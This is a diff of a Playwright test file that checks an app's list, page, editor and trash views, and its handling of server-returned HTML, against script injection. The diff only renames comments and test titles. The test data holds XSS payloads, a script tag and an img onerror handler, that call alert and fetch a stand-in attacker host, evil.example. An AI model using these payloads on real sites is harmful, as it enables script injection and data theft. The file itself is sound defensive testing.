@@ -5,7 +5,7 @@ import { signInAs } from '../support/people.ts'
 
 const act = 'globalThis.hacked=1;alert(1);fetch(`https://evil.example/`)'
 
-/** Ways in which text has become code elsewhere. */
+/** Known injection techniques. */
 const hostile = [
   `<script>${act}</script>`,
   `<img src=x onerror="${act}">`,
@@ -34,7 +34,7 @@ async function expectNothingRan(page: Page) {
   await expect(code).toHaveCount(0)
 }
 
-test('hostile titles and texts run nowhere: list, page, editor, trash', async ({ page, t }) => {
+test('runs no script from hostile titles and texts in list, page, editor and trash', async ({ page, t }) => {
   test.slow()
   page.on('dialog', (dialog) => {
     expect(`a dialog opened: ${dialog.message()}`).toBe('')
@@ -62,7 +62,7 @@ test('hostile titles and texts run nowhere: list, page, editor, trash', async ({
   }
 })
 
-test('a server that sends hostile HTML is not trusted by the pages either', async ({ page, t }) => {
+test('sanitizes hostile HTML that the server returns', async ({ page, t }) => {
   const item = {
     id: 7,
     title: `hostile ${hostile.slice(0, 4).join('')}`,
